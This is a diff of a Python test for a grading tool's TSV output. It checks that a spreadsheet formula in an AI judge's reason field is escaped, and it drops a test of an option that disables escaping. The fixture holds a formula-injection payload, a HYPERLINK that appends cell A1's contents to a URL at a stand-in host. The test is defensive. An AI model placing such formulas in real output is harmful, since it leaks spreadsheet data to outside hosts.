@@ -78,15 +78,12 @@ def test_every_row_in_its_order(folder: Folder, capfd: pytest.CaptureFixture[str
 
 
 def test_no_judge_writes_formulas(folder: Folder) -> None:
-    """Unless they are asked for."""
     formula = '=HYPERLINK("http://example.org/?" & A1; "more")'
     write(folder.path / "in.tsv", [["q", "red", "red"]])
     with serving(failing("", completion(claims("q", "red", "red") | {"reason": formula}))) as server:
-        arguments = ["-i", "in.tsv", "-c", config(folder.path, server)]
-        assert run("answer-correctness", *arguments, "-o", "out.tsv") == 0
-        assert run("answer-correctness", *arguments, "-o", "raw.tsv", "--no-escape-formulas") == 0
+        arguments = ["-i", "in.tsv", "-c", config(folder.path, server), "-o", "out.tsv"]
+        assert run("answer-correctness", *arguments) == 0
     assert read(folder.path / "out.tsv") == [["1", "1", "1", f"'{formula}", ""]]
-    assert read(folder.path / "raw.tsv") == [["1", "1", "1", formula, ""]]
 
 
 def test_other_tables_are_refused(folder: Folder, capfd: pytest.CaptureFixture[str]) -> None:
